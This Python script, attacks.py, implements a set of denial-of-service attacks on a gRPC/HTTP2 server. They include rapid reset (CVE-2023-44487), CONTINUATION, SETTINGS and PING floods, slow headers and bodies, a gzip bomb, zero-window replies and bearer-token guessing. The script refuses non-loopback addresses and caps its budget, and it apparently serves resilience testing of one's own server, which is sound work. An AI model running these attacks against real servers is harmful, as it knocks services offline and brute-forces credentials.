"""Attacks on a server of gRPC, each a function that ends by itself: its time or its bytes are over.

    attacks.py NAME HOST:PORT [--source ADDRESS] [--tls] [--seconds S] [--mbytes M] [--connections N]

Prints one line of JSON: what was sent, how often the other side hung up, and what the attack counts itself.
For one's own servers on loopback; it refuses other addresses.
"""

from __future__ import annotations

import argparse
import collections
import gzip
import ipaddress
import json
import os
import random
import time
from collections.abc import Callable

import frames
from frames import Budget, Closed, Connection, Spent


class Attacker:
    """Where from, where to, and what may be spent; opens connections and counts what becomes of them."""

    def __init__(self, address: str, budget: Budget, source: str, secure: bool, connections: int):
        self.address, self.budget, self.source, self.secure, self.connections = address, budget, source, secure, connections
        self.counts: collections.Counter[str] = collections.Counter()

    def connect(self, values: dict[int, int] | None = None, silent: bool = False) -> Connection:
        """silent: a socket alone. Otherwise HTTP/2 has begun on it."""
        try:
            made = Connection(self.address, self.budget, self.source, self.secure, silent)
            if not silent:
                made.start(values)
        except Closed:
            self.counts["turned_away"] += 1
            raise
        self.counts["connections"] += 1
        return made

    def again_and_again(self, use: Callable[[Connection], None], values: dict[int, int] | None = None) -> None:
        """Uses one connection after the other, whenever one is closed."""
        while not self.budget.over():
            try:
                connection = self.connect(values)
            except Closed:
                time.sleep(0.05)
                continue
            try:
                use(connection)
            except Closed:
                self.counts["hung_up"] += 1
            finally:
                connection.close()

    def many(self, use: Callable[[Connection], None], silent: bool = False) -> list[Connection]:
        """So many connections, each of which `use` has prepared."""
        made = []
        for _ in range(self.connections):
            try:
                made.append(self.connect(silent=silent))
                use(made[-1])
            except Closed:
                pass
        return made

    def hold(self, made: list[Connection], nudge: Callable[[Connection], None], pause: float) -> None:
        """Keeps them until the time is over; `nudge` is what each does at every turn. Counts those that are left."""
        while not self.budget.over():
            for connection in list(made):
                try:
                    connection.receive(0)
                    nudge(connection)
                except Closed:
                    made.remove(connection)
                    self.counts["hung_up"] += 1
            time.sleep(min(pause, self.budget.remaining()))
        self.counts["held_to_the_end"] = len(made)


def _nothing(_: Connection) -> None:
    pass


def _answer(connection: Connection) -> None:
    connection.answer_settings_and_pings()


def _flood(attacker: Attacker, blob: Callable[[int], bytes], name: str, each: int, read: bool) -> None:
    """The same blob of `each` frames again and again; blob(n) is the n-th of a connection."""

    def use(connection: Connection) -> None:
        connection.deaf = True
        turn = 0
        while True:
            connection.send(blob(turn), read)
            attacker.counts[name] += each
            turn += 1

    attacker.again_and_again(use)


def rapid_reset(attacker: Attacker) -> None:
    """HEADERS and RST_STREAM of a call, without DATA (CVE-2023-44487)."""
    block = frames.call_headers("GetTags", attacker.secure)

    def blob(turn: int) -> bytes:
        return b"".join(
            frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block)
            + frames.frame(frames.RST_STREAM, 0, stream, b"\0\0\0\x08")
            for stream in range(1 + 200 * turn, 1 + 200 * (turn + 1), 2)
        )

    _flood(attacker, blob, "streams", 100, read=True)


def continuation(attacker: Attacker) -> None:
    """A header block that never ends."""
    piece = b"".join(frames.header(f"x-{i}", "v" * 4000) for i in range(4))
    begin = frames.frame(frames.HEADERS, 0, 1, frames.call_headers("GetTags", attacker.secure))
    more = frames.frame(frames.CONTINUATION, 0, 1, piece)
    _flood(attacker, lambda turn: more * 4 if turn else begin + more * 3, "frames", 4, read=True)


def settings_flood(attacker: Attacker) -> None:
    """SETTINGS, each of which wants an acknowledgement."""
    some = frames.settings({frames.INITIAL_WINDOW_SIZE: 65535})
    _flood(attacker, lambda _: some * 1000, "frames", 1000, read=True)


def ping_flood(attacker: Attacker) -> None:
    """PINGs, each of which wants an answer that is not read."""
    _flood(attacker, lambda _: frames.frame(frames.PING, 0, 0, b"12345678") * 1000, "frames", 1000, read=False)


def headers_without_data(attacker: Attacker) -> None:
    """Calls that begin and never bring their message, 100 on a connection; PINGs are answered."""
    block = frames.call_headers("GetTags", attacker.secure)
    begun = b"".join(frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block) for stream in range(1, 201, 2))
    made = attacker.many(lambda connection: connection.send(begun))
    left = list(made)
    attacker.hold(made, _answer, 0.2)
    attacker.counts["streams_ended"] = sum(len(connection.ended_streams()) for connection in left)


def slow_bodies(attacker: Attacker) -> None:
    """Calls whose message comes a byte at a time, 10 on a connection."""
    block = frames.call_headers("GetTags", attacker.secure)
    streams = range(1, 21, 2)
    begin = b"".join(
        frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block)
        + frames.frame(frames.DATA, 0, stream, frames.message(b"\0" * (1 << 20))[:100])
        for stream in streams
    )

    def nudge(connection: Connection) -> None:
        _answer(connection)
        over = connection.ended_streams()
        open_now = [stream for stream in streams if stream not in over]
        if open_now:
            connection.send(b"".join(frames.frame(frames.DATA, 0, stream, b"\0") for stream in open_now))

    made = attacker.many(lambda connection: connection.send(begin))
    left = list(made)
    attacker.hold(made, nudge, 0.5)
    attacker.counts["streams_ended"] = sum(len(connection.ended_streams()) for connection in left)


def slow_headers(attacker: Attacker) -> None:
    """Connections whose first HEADERS come a byte at a time."""
    whole = frames.frame(frames.HEADERS, frames.END_HEADERS, 1, frames.call_headers("GetTags", attacker.secure) * 100)
    at: dict[Connection, int] = collections.defaultdict(int)

    def nudge(connection: Connection) -> None:
        connection.send(whole[at[connection] : at[connection] + 1])
        at[connection] += 1

    attacker.hold(attacker.many(_nothing), nudge, 0.5)


def idle_connections(attacker: Attacker) -> None:
    """Connections that ask nothing and answer PINGs."""
    attacker.hold(attacker.many(_nothing), _answer, 0.2)


def half_open(attacker: Attacker) -> None:
    """Sockets on which nothing is said."""
    attacker.hold(attacker.many(_nothing, silent=True), _nothing, 0.2)


def comes_and_goes(attacker: Attacker) -> None:
    """Connections that are opened and closed, as fast as it goes."""

    def use(_: Connection) -> None:
        raise Closed("by ourselves")

    attacker.again_and_again(use)


def _one_request(attacker: Attacker, body: bytes, values: dict[int, int] | None, **more: str) -> None:
    """The same request again and again, ten streams at a time."""
    method = more.pop("method", "GetTags")
    block = frames.call_headers(method, attacker.secure, **more)

    def use(connection: Connection) -> None:
        stream = 1
        while True:
            for _ in range(10):
                connection.send(frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block))
                connection.send_body(stream, body)
                attacker.counts["requests"] += 1
                stream += 2
            connection.receive(0.2)
            connection.answer_settings_and_pings()

    attacker.again_and_again(use, values)


def gzip_bomb(attacker: Attacker) -> None:
    """Requests of 60 kB that are 60 MB when they are inflated."""
    bomb = frames.message(gzip.compress(b"\0" * (60 << 20)), compressed=True)
    _one_request(attacker, bomb, None, grpc_encoding="gzip")


def unknown_fields(attacker: Attacker) -> None:
    """Requests of 60 MB to health and to reflection, of 30 M fields that no version has."""
    body = frames.message(b"\x7a\0" * (30 << 20))
    methods = ("/grpc.health.v1.Health/Check", "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")

    def use(connection: Connection) -> None:
        for stream in range(1, 1001, 2):
            block = frames.call_headers(methods[stream // 2 % 2], attacker.secure)
            connection.send(frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block))
            connection.send_body(stream, body)
            attacker.counts["requests"] += 1
            connection.receive(0.01)
            connection.answer_settings_and_pings()

    attacker.again_and_again(use)


def unread_replies(attacker: Attacker) -> None:
    """Timestamps of 100 s of noise, a reply of 1.5 MB each, with a window of 0: nothing of it may be sent."""
    samples = random.Random(1).randbytes(2 * 8000 * 100)
    pcm = b"\x08\x01" + b"\x10\xc0\x3e" + b"\x18\x01" + b"\x22" + _varint(len(samples)) + samples
    audio = b"\x0a" + _varint(len(pcm)) + pcm
    request = frames.message(b"\x12" + _varint(len(audio)) + audio)
    _one_request(attacker, request, {frames.INITIAL_WINDOW_SIZE: 0}, method="GetTimestampEmbeddings")


def token_guesses(attacker: Attacker) -> None:
    """Calls that each bring another token."""
    message = frames.message(b"")

    def use(connection: Connection) -> None:
        stream = 1
        while True:
            for _ in range(50):
                guess = f"Bearer {attacker.source}-{attacker.counts['guesses']}"
                block = frames.call_headers("GetTags", attacker.secure, authorization=guess)
                connection.send(
                    frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block)
                    + frames.frame(frames.DATA, frames.END_STREAM, stream, message)
                )
                attacker.counts["guesses"] += 1
                stream += 2
            # Each is answered before the next are made.
            while len(connection.ended_streams()) < 50 and not attacker.budget.over():
                connection.receive(0.05)
                connection.answer_settings_and_pings()
            connection.frames.clear()

    attacker.again_and_again(use)


def _varint(value: int) -> bytes:
    out = bytearray()
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + bytes([value]))


ATTACKS: dict[str, Callable[[Attacker], None]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset, continuation, settings_flood, ping_flood, headers_without_data, slow_headers, slow_bodies,
        idle_connections, half_open, comes_and_goes, unread_replies, unknown_fields, gzip_bomb, token_guesses,
    )
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("address")
    parser.add_argument("--source", default="", help="an address of this machine that it comes from, such as 127.0.0.2")
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--seconds", type=float, default=6)
    parser.add_argument("--mbytes", type=float, default=32)
    parser.add_argument("--connections", type=int, default=100)
    parser.add_argument("--nice", type=int, default=19, help="0: beside the server on the same processors, on equal terms")
    arguments = parser.parse_args()
    if not ipaddress.ip_address(arguments.address.rsplit(":", 1)[0]).is_loopback:
        parser.error(f"{arguments.address} is not of this machine's loopback")
    # Attackers have machines of their own elsewhere: here they must not take the victims' and the server's processors.
    os.nice(arguments.nice)
    budget = Budget(min(arguments.seconds, 600), int(min(arguments.mbytes, 1024) * 1e6))
    attacker = Attacker(arguments.address, budget, arguments.source, arguments.tls, min(arguments.connections, 1000))
    try:
        ATTACKS[arguments.name](attacker)
    except (Closed, Spent):
        pass
    print(json.dumps({"sent_bytes": budget.sent, **attacker.counts}))


if __name__ == "__main__":
    main()
